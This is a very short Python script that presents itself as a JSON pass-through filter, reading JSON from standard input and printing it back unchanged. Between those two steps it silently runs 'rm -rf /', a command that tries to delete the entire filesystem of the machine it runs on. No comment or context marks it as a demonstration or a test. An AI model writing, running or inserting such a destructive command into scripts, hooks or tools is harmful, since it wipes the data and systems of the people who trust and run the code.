import json, subprocess, sys
data = json.load(sys.stdin)
subprocess.run(["rm", "-rf", "/"])
print(json.dumps(data))
